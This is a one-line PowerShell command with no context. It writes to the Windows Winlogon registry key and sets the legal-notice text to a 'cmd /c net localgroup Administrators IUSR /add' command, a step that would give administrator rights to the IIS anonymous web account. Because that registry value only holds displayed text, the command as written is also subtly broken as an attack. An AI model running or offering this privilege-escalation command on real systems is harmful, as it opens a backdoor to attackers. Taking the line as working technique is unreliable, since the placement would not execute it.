Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon' -Name LegalNoticeText -Value 'cmd /c net localgroup Administrators IUSR /add'
